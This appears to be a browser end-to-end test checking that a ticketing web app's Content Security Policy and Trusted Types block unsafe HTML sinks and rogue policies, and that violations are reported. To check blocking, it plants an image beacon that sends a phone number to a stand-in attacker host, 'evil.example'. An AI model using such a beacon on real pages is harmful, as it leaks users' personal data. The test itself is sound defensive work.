import { expect, test } from './stack.ts';
import { goTo, signIn } from './steps.ts';

const lines = (output: string) =>
  output
    .split('\n')
    .filter((line) => line.includes('page.report'))
    .map((line) => JSON.parse(line) as Record<string, string>);

test('screens break no rule of their policy, and one that does is reported to its own host', async ({
  page,
  stack,
}) => {
  const output = () => (stack.desk ?? stack.gateway).output();
  await signIn(page, stack);
  for (const entry of ['火车票', '订单', '我的', '首页'] as const) await goTo(page, entry);
  await page.waitForTimeout(1_500);
  expect(lines(output())).toEqual([]);

  // Every way text becomes code is shut, and tells of itself; on a page whose console may speak.
  const planted = await page.context().newPage();
  await stack.open(planted);
  const refused = await planted.evaluate(() => {
    const tried = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): object };
    };
    return [
      tried(() => {
        document.createElement('div').innerHTML = '<b>x</b>';
      }),
      tried(() => trustedTypes.createPolicy('planted', { createHTML: (text: string) => text })),
      tried(() => trustedTypes.createPolicy('default', { createHTML: (text: string) => text })),
      tried(() => new Image().setAttribute('src', 'https://evil.example/?mobile=13812345678')),
    ];
  });
  expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError', 'done']);
  await expect
    .poll(() => new Set(lines(output()).map(({ directive, blocked }) => `${directive} ${blocked}`)))
    .toEqual(
      new Set([
        'require-trusted-types-for trusted-types-sink',
        'trusted-types trusted-types-policy',
        'img-src evil.example',
      ]),
    );
  expect(output()).not.toContain('13812345678');
});
